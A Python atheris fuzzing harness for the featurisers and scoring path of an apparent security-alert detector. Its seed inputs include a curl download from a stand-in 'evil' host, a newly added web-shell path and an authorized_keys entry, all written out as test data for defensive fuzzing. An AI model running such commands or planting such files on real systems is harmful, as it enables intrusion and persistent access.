#!/usr/bin/env python3
"""Coverage-guided fuzzing of the featurisers and the score path (atheris): any bytes made into an
alert (``fuzz_targets.alert_from_bytes``: JSON merged into a generated alert, or text put where
agents put it), checked by ``check_featurise`` (keys and bounded tokens) and ``check_score`` (one
alert scored as ``serve`` scores it, its record made into an event and a syslog line).

    python fuzz/atheris_featurisers.py -atheris_runs=20000 [-max_total_time=60] [corpus_dir]
"""
from atheris_common import atheris, require_atheris, run

require_atheris()
with atheris.instrument_imports(include=["mimizuku"]):
    import fuzz_targets as T

T.model()   # trained before fuzzing starts, not in the first input's time


def test_one_input(data: bytes) -> None:
    alert = T.alert_from_bytes(data)
    T.check_featurise(alert)
    T.check_score(alert)


def seeds():
    return [bytes([i]) + text for i in range(0, 40, 3) for text in (
        b"/usr/bin/curl\x00-o\x00/tmp/x\x00http://user:pw@evil/a.deb",
        b'{"syscheck":{"path":"/var/www/html/shell.php","event":"added"}}',
        b"/home/bob/.ssh/authorized_keys\x00bob\x00001",
        b"x0001a" + b"_a-a" * 100 + b"_a-.deb.rpm")]


if __name__ == "__main__":
    run(test_one_input, seeds())
